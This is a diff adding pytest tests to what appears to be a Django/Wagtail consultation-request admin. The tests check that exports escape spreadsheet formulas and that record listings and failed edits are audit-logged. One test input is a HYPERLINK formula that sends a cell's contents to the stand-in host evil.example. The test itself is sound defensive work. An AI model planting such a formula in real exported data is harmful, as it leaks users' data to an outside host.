@@ -274,3 +274,53 @@ def test_bulk_deleting_comments_writes_one_audit_entry_each(admin_client, make_c
     entries = ModelLogEntry.objects.filter(action="wagtail.delete", content_type__model="comment")
     assert sorted(entries.values_list("object_id", flat=True)) == sorted(str(c.pk) for c in comments)
     assert {e.user for e in entries} == {admin_client.user}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"],
+)
+def test_exported_cells_that_a_spreadsheet_would_run_are_neutralised(admin_client, practice, text):
+    from openpyxl import load_workbook
+
+    ConsultationRequest.objects.create(
+        name=text, email="x@example.org", preferred_contact="email", message=text, consent=True
+    )
+
+    export = admin_client.get(reverse(f"{REQUESTS}:list") + "?export=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode(), newline="")))
+    assert (rows[1][1], rows[1][6]) == ("'" + text, "'" + text)
+
+    xlsx = admin_client.get(reverse(f"{REQUESTS}:list") + "?export=xlsx")
+    data = b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = list(sheet.iter_rows(min_row=2, values_only=True))[0]
+    # XML (inside XLSX) reads a carriage return back as a line feed.
+    assert (cells[1], cells[6]) == ("'" + text.replace("\r", "\n"), "'" + text.replace("\r", "\n"))
+    assert rows[1][2] == "x@example.org"
+
+
+def test_listing_consultation_requests_and_comments_is_audit_logged_per_record_shown(
+    admin_client, consultation, make_comment
+):
+    comment = make_comment(status=Comment.Status.PENDING)
+
+    assert "Sam Rivera" in admin_client.get(reverse(f"{REQUESTS}:list") + "?status=new").content.decode()
+    admin_client.get(reverse(f"{COMMENTS}:list"))
+
+    entry = logs(consultation, "readers.consultation_request.list").get()
+    assert (entry.user, entry.data) == (admin_client.user, {"listing": "status=new"})
+    assert logs(comment, "readers.comment.list").get().user == admin_client.user
+    assert "sam.rivera" not in str(entry.data) and "Sam" not in str(entry.data)
+
+
+def test_a_failed_edit_that_shows_the_record_again_is_audit_logged(admin_client, consultation, make_comment):
+    comment = make_comment(status=Comment.Status.PENDING)
+
+    request_edit = admin_client.post(reverse(f"{REQUESTS}:edit", args=[consultation.pk]), {"status": "bogus"})
+    comment_edit = admin_client.post(reverse(f"{COMMENTS}:edit", args=[comment.pk]), {"status": "bogus"})
+
+    assert request_edit.status_code == comment_edit.status_code == 200
+    assert "About anxiety at work." in request_edit.content.decode()
+    assert logs(consultation, "readers.consultation_request.view").get().data == {"form_invalid": True}
+    assert logs(comment, "readers.comment.view").get().data == {"form_invalid": True}
